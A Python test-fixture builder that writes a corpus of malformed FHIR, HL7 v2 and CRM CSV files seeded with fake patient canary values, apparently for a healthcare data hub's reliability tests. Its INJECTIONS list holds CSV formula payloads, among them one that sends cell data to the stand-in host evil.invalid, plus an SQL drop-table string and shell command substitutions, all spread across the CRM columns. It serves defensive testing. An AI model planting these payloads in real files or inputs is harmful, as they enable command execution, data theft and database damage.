"""Build the hostile-input corpus: small files that each break one assumption a reader makes.

`python -m tests.reliability.corpus.build` rewrites tests/reliability/corpus/files/ (committed,
so a reviewer can open them); `build_large(folder)` writes the few inputs that are hostile
because of their size (lines and messages over the readers' limits), at test time only.

Every file carries the canary values below in the places a person's data would go. The suite
checks that no canary ever reaches a rejection message, a quarantine message, an exception,
or a landing table: canaries may only live encrypted (vault, quarantine payload).
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Callable
from pathlib import Path

import orjson

FILES = Path(__file__).resolve().parent / "files"

# Fake PHI, distinctive enough that a substring search cannot hit anything else.
CANARY_GIVEN = "Wvucanary"
CANARY_FAMILY = "Qzxcanary"
CANARY_EMAIL = "qzx.canary@example.org"
CANARY_PHONE = "555-0199-7731"
CANARY_SSN = "987-65-4329"
CANARY_MRN = "CANARY77123"
CANARY_BIRTH = "1933-07-21"
CANARY_STREET = "77 Canaryvale Rd"
CANARIES = (
    CANARY_GIVEN,
    CANARY_FAMILY,
    CANARY_EMAIL,
    CANARY_PHONE,
    CANARY_SSN,
    CANARY_MRN,
    CANARY_BIRTH,
    CANARY_BIRTH.replace("-", ""),
    CANARY_STREET,
)

# Cells a spreadsheet would run as formulas (CSV injection, OWASP), and shell/SQL payloads.
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "\t=1+1",
    "'; drop table vault.contact_fields; --",
    "$(touch /tmp/hub-reliability-pwned)",
    "`touch /tmp/hub-reliability-pwned`",
)
PWNED_MARKER = Path("/tmp/hub-reliability-pwned")
# Distinctive pieces of the payloads, free of characters JSON would escape (quotes, tabs), to
# search table dumps for.
INJECTION_MARKERS = (
    "cmd|' /C calc'",
    "SUM(1+1)",
    "HYPERLINK(",
    "=1+1",
    "drop table vault.contact_fields",
    "hub-reliability-pwned",
)


# --- FHIR ------------------------------------------------------------------------------------


def patient(pid: str = "canary-1", **extra: object) -> dict[str, object]:
    """An R4 Patient carrying the canaries."""
    resource: dict[str, object] = {
        "resourceType": "Patient",
        "id": pid,
        "identifier": [{"system": "urn:oid:2.16.840.1.113883.19.5", "value": CANARY_MRN}],
        "name": [{"family": CANARY_FAMILY, "given": [CANARY_GIVEN]}],
        "telecom": [
            {"system": "email", "value": CANARY_EMAIL},
            {"system": "phone", "value": CANARY_PHONE},
        ],
        "gender": "female",
        "birthDate": CANARY_BIRTH,
        "address": [{"line": [CANARY_STREET], "city": "Springfield", "postalCode": "02134"}],
    }
    resource.update(extra)
    return resource


def _line(resource: object) -> bytes:
    return orjson.dumps(resource) + b"\n"


def _deep(levels: int) -> bytes:
    # Built as text: a recursive structure this deep would exceed Python's own recursion limit.
    return b'{"resourceType":"Patient","x":' + b'{"a":' * levels + b"1" + b"}" * levels + b"}"


def _stu3_consent() -> dict[str, object]:
    return {
        "resourceType": "Consent",
        "id": "stu3-1",
        "status": "active",
        "patient": {"reference": "Patient/canary-1", "display": CANARY_FAMILY},
        "period": {"start": "2020-01-01"},
        "consentingParty": [{"display": f"{CANARY_GIVEN} {CANARY_FAMILY}"}],
        "policyRule": "http://hl7.org/fhir/ConsentPolicy/opt-in",
    }


def _r5_consent() -> dict[str, object]:
    # R5 renamed patient -> subject, added decision and made provision a list.
    return {
        "resourceType": "Consent",
        "id": "r5-1",
        "status": "active",
        "subject": {"reference": "Patient/canary-1", "display": CANARY_FAMILY},
        "decision": "permit",
        "date": "2024-01-01",
        "provision": [{"period": {"start": "2024-01-01"}}],
    }


def _fhir_files() -> dict[str, bytes]:
    good = _line(patient("canary-good"))
    whole = _line(patient("canary-2"))
    return {
        "fhir_empty.ndjson": b"",
        "fhir_blank_lines.ndjson": b"\n\n   \n\t\n",
        "fhir_truncated.ndjson": good + whole[: len(whole) // 2] + b"\n" + whole[:-40],
        "fhir_latin1.ndjson": _line(patient("canary-l1"))
        .decode()
        .replace(CANARY_FAMILY, CANARY_FAMILY + "é")
        .encode("latin-1"),
        "fhir_utf16_bom.ndjson": (good + whole).decode().encode("utf-16"),
        "fhir_utf8_bom.ndjson": b"\xef\xbb\xbf" + good,
        "fhir_bom_mid_file.ndjson": good + b"\xef\xbb\xbf" + _line(patient("canary-3")),
        "fhir_mixed_line_endings.ndjson": good.rstrip(b"\n")
        + b"\r\n"
        + _line(patient("canary-4")).rstrip(b"\n")
        + b"\r"
        + _line(patient("canary-5")),
        "fhir_deep_nesting.json": _deep(10_000),
        "fhir_deep_nesting_line.ndjson": good + _deep(10_000) + b"\n" + _line(patient("canary-6")),
        "fhir_not_fhir.ndjson": b"".join(
            _line(v)
            for v in (
                {"users": [{"name": CANARY_FAMILY, "email": CANARY_EMAIL}]},
                [CANARY_FAMILY, CANARY_SSN],
                42,
                "just a string " + CANARY_GIVEN,
                {"resourceType": 7, "name": CANARY_FAMILY},
                {"resourceType": "", "name": CANARY_FAMILY},
                {"resourceType": "Patient\u0000" + CANARY_FAMILY},
                {"resourceType": "Bundle", "entry": "nope " + CANARY_FAMILY},
                {"resourceType": "Bundle", "entry": [7, {"resource": [CANARY_SSN]}]},
            )
        ),
        "fhir_wrong_versions.ndjson": b"".join(
            _line(v)
            for v in (
                _stu3_consent(),
                _r5_consent(),
                patient("canary-v", meta={"profile": ["http://hl7.org/fhir/5.0/Patient"]}),
                patient("canary-s3", animal={"species": {"text": CANARY_FAMILY}}),
                {"resourceType": "Bundle", "meta": {"fhirVersion": "5.0.0"}, "entry": []},
            )
        ),
        "fhir_mutated_fields.ndjson": b"".join(
            _line(patient(f"m{i}", **{key: value}))
            for i, (key, value) in enumerate(
                [
                    ("birthDate", CANARY_FAMILY),
                    ("birthDate", "1933-02-30"),
                    ("birthDate", 19330721),
                    ("gender", CANARY_FAMILY),
                    ("name", CANARY_FAMILY),
                    ("name", [{"family": [CANARY_FAMILY]}]),
                    ("telecom", {"system": "email", "value": CANARY_EMAIL}),
                    ("telecom", [{"system": CANARY_EMAIL, "value": CANARY_EMAIL}]),
                    ("address", [{"postalCode": {"v": CANARY_STREET}}]),
                    ("identifier", [{"value": {"x": CANARY_MRN}}]),
                    ("id", {"nested": CANARY_MRN}),
                    ("deceasedBoolean", CANARY_FAMILY),
                    ("extension", [{"url": 5, "valueString": CANARY_FAMILY}]),
                ]
            )
        ),
        "fhir_binary.ndjson": random.Random(9).randbytes(4096),
        "fhir_nul_bytes.ndjson": good.replace(b'"female"', b'"fe\x00male"') + b"\x00\x00\n",
    }


# --- HL7 v2 ----------------------------------------------------------------------------------

_MSH = (
    "MSH|^~\\&|HUBEHR|HUBHOSP|AUDIENCEHUB|HUBHOSP|20250204143900+0000||ADT^A04^ADT_A01|"
    "{cid}|P|2.5.1|||AL|NE||{charset}"
)
_PID = (
    f"PID|1||{CANARY_MRN}^^^HUBHOSP^MR||{CANARY_FAMILY}^{CANARY_GIVEN}^^^^^L||"
    f"{CANARY_BIRTH.replace('-', '')}|F|||{CANARY_STREET}^^Springfield^MA^02134^USA^H||"
    f"^NET^Internet^{CANARY_EMAIL}|||||{CANARY_SSN}"
)


def adt(cid: str = "CAN0001", pid: str = _PID, charset: str = "UNICODE UTF-8") -> str:
    return "\r".join([_MSH.format(cid=cid, charset=charset), "EVN|A04|20250204143900", pid, ""])


def _hl7_files() -> dict[str, bytes]:
    good = adt("CANGOOD1")
    return {
        "hl7_empty.hl7": b"",
        "hl7_whitespace.hl7": b"\r\n \r\n\x0b\x1c\r",
        "hl7_no_msh.hl7": f"EVN|A04|20250204143900\r{_PID}\rPV1|1|O\r".encode(),
        "hl7_wrong_delimiters.hl7": "".join(
            [
                good.replace("MSH|^~\\&|", "MSH").replace("|", "").replace("CANGOOD1", "W1"),
                good.replace("MSH|^~\\&", "MSH|||||").replace("CANGOOD1", "W2"),
                good.replace("MSH|^~\\&", "MSHX^~\\&").replace("CANGOOD1", "W3"),
                good.replace("MSH|^~\\&", "MSH|^").replace("CANGOOD1", "W4"),
                good.replace("MSH|^~\\&", "MSH|" + CANARY_FAMILY).replace("CANGOOD1", "W5"),
            ]
        ).encode(),
        "hl7_mixed_separators.hl7": (
            adt("CANMIX1").replace("\r", "\n")
            + adt("CANMIX2").replace("\r", "\r\n")
            + adt("CANMIX3")
        ).encode(),
        "hl7_truncated.hl7": (good + adt("CANTRUNC")[: len(_MSH) + 40]).encode(),
        "hl7_latin1_undeclared.hl7": adt("CANLAT1")
        .replace(CANARY_FAMILY, CANARY_FAMILY + "é")
        .encode("latin-1"),
        "hl7_latin1_declared.hl7": adt("CANLAT2", charset="8859/1")
        .replace(CANARY_FAMILY, CANARY_FAMILY + "é")
        .encode("latin-1"),
        "hl7_utf16_bom.hl7": good.encode("utf-16"),
        "hl7_utf8_bom.hl7": b"\xef\xbb\xbf" + good.encode(),
        "hl7_mllp_framed.hl7": b"\x0b" + good.encode() + b"\x1c\r" + b"\x0b" + b"\x1c\r",
        "hl7_escapes.hl7": adt(
            "CANESC1",
            _PID.replace(CANARY_FAMILY, f"\\F\\{CANARY_FAMILY}\\S\\\\E\\\\X41\\\\Zcustom\\"),
        ).encode(),
        "hl7_bad_fields.hl7": "".join(
            adt(f"CANBAD{i}", _PID.replace(old, new))
            for i, (old, new) in enumerate(
                [
                    (CANARY_BIRTH.replace("-", ""), CANARY_FAMILY),
                    ("|F|", f"|{CANARY_GIVEN}|"),
                    (f"{CANARY_MRN}^^^HUBHOSP^MR", ""),
                    ("PID|1|", "PIDX|1|"),
                ]
            )
        ).encode(),
        "hl7_unsupported_type.hl7": good.replace("ADT^A04^ADT_A01", f"ZZZ^{CANARY_MRN}").encode(),
        "hl7_binary.hl7": b"MSH|^~\\&|" + random.Random(11).randbytes(4096),
        "hl7_garbage.hl7": random.Random(12).randbytes(4096),
    }


# --- CRM -------------------------------------------------------------------------------------

CRM_HEADER = [
    "contact_id", "email", "first_name", "last_name", "phone", "birth_date", "postal_code",
    "mrn", "mrn_authority", "email_opt_in", "marketing_auth_signed", "marketing_auth_expires",
    "marketing_auth_revoked", "unsubscribed_at", "notes", "updated_at",
]  # fmt: skip


def crm_row(**cells: str) -> list[str]:
    base = {
        "contact_id": "CCAN0001",
        "email": CANARY_EMAIL,
        "first_name": CANARY_GIVEN,
        "last_name": CANARY_FAMILY,
        "phone": CANARY_PHONE,
        "birth_date": CANARY_BIRTH,
        "postal_code": "02134",
        "mrn": CANARY_MRN,
        "mrn_authority": "HUBHOSP",
        "email_opt_in": "yes",
        "marketing_auth_signed": "2025-01-01",
        "marketing_auth_expires": "2027-01-01",
        "marketing_auth_revoked": "",
        "unsubscribed_at": "",
        "notes": f"called {CANARY_GIVEN} at {CANARY_PHONE}",
        "updated_at": "2025-05-01T08:15:00Z",
    }
    base.update(cells)
    return [base[c] for c in CRM_HEADER]


def _csv(rows: list[list[str]], header: list[str] | None = CRM_HEADER) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode()


def _injection_rows() -> list[list[str]]:
    """Each payload in every column a person's data goes into, one row per (payload, column)."""
    rows = []
    columns = ["email", "first_name", "last_name", "phone", "postal_code", "mrn_authority", "notes"]
    n = 0
    for payload in INJECTIONS:
        for column in columns:
            n += 1
            rows.append(crm_row(contact_id=f"CINJ{n:04d}", **{column: payload}))
        n += 1
        rows.append(crm_row(contact_id=payload))  # the key itself (tokenized, never stored)
        n += 1
        rows.append(crm_row(contact_id=f"CINJ{n:04d}", email_opt_in=payload))
        n += 1
        rows.append(crm_row(contact_id=f"CINJ{n:04d}", updated_at=payload))
    return rows


def _crm_files() -> dict[str, bytes]:
    good = crm_row()
    ragged = [
        good,
        crm_row(contact_id="CCAN0002")[:5],
        [*crm_row(contact_id="CCAN0003"), CANARY_SSN, CANARY_FAMILY],
        [],
        crm_row(contact_id="CCAN0004"),
        [CANARY_FAMILY],
    ]
    return {
        "crm_empty.csv": b"",
        "crm_header_only.csv": _csv([]),
        "crm_ragged.csv": _csv(ragged),
        "crm_injection.csv": _csv(_injection_rows()),
        "crm_latin1.csv": _csv([crm_row(last_name=CANARY_FAMILY + "é")]).decode().encode("latin-1"),
        "crm_utf16_bom.csv": _csv([good]).decode().encode("utf-16"),
        "crm_utf8_bom.csv": b"\xef\xbb\xbf" + _csv([crm_row(contact_id="CBOM0001")]),
        "crm_unterminated_quote.csv": _csv([good])
        + b'CCAN0009,"'
        + CANARY_EMAIL.encode()
        + b",no closing quote\r\n",
        "crm_no_key_column.csv": _csv([good[1:]], header=CRM_HEADER[1:]),
        "crm_duplicate_columns.csv": _csv([[*good, "x"]], header=[*CRM_HEADER, "email"]),
        "crm_binary.csv": ",".join(CRM_HEADER).encode()
        + b"\r\n"
        + random.Random(13).randbytes(2048),
        "crm_bad_jsonl.jsonl": b"".join(
            [
                orjson.dumps(dict(zip(CRM_HEADER, good, strict=True))) + b"\n",
                b'{"contact_id": "CJ2", "email": "' + CANARY_EMAIL.encode() + b'"\n',
                orjson.dumps([CANARY_FAMILY]) + b"\n",
                _deep(5_000) + b"\n",
                random.Random(14).randbytes(200) + b"\n",
            ]
        ),
    }


BUILDERS: tuple[Callable[[], dict[str, bytes]], ...] = (_fhir_files, _hl7_files, _crm_files)


def corpus() -> dict[str, bytes]:
    """File name -> bytes, for every committed corpus file."""
    files: dict[str, bytes] = {}
    for build in BUILDERS:
        files.update(build())
    return files


def build(folder: Path = FILES) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in sorted(corpus().items()):
        path = folder / name
        path.write_bytes(data)
        written.append(path)
    return written


def large_corpus() -> dict[str, Callable[[], bytes]]:
    """Inputs hostile by size (up to ~70 MB): field and line over the readers' limits.

    Written at test time, never committed. Values are thunks so a caller can build one at a
    time and keep memory at one file.
    """
    from connectors.fhir.reader import MAX_LINE_BYTES
    from connectors.hl7.reader import MAX_MESSAGE_BYTES

    good_fhir = _line(patient("canary-good"))
    huge_pid = _PID.replace(CANARY_FAMILY, "Q" * (MAX_MESSAGE_BYTES + 1024))
    return {
        # A 2 MB name: under every limit, so it must load (vaulted), not crash.
        "large_fhir_field.ndjson": lambda: (
            _line(
                patient("canary-huge", name=[{"family": "Q" * 2_000_000, "given": [CANARY_GIVEN]}])
            )
            + good_fhir
        ),
        "large_fhir_line.ndjson": lambda: (
            good_fhir
            + b'{"resourceType":"Patient","id":"big","name":[{"family":"'
            + b"Q" * (MAX_LINE_BYTES + 1024)
            + b'"}]}\n'
            + _line(patient("canary-after"))
        ),
        "large_hl7_field.hl7": lambda: adt(
            "CANHUGE", _PID.replace(CANARY_FAMILY, "Q" * 1_000_000)
        ).encode(),
        "large_hl7_message.hl7": lambda: (
            adt("CANBEFORE") + adt("CANBIG", huge_pid) + adt("CANAFTER")
        ).encode(),
        # Over the csv module's 128 KiB field limit, which the CRM reader's fallback uses.
        "large_crm_cell.csv": lambda: _csv(
            [
                crm_row(contact_id="CHUGE001", notes="N" * 300_000),
                crm_row(contact_id="CHUGE002")[:3],
                crm_row(contact_id="CHUGE003", notes="N" * 300_000),
            ]
        ),
    }


if __name__ == "__main__":
    for path in build():
        print(f"{path.stat().st_size:>9,}  {path.name}")
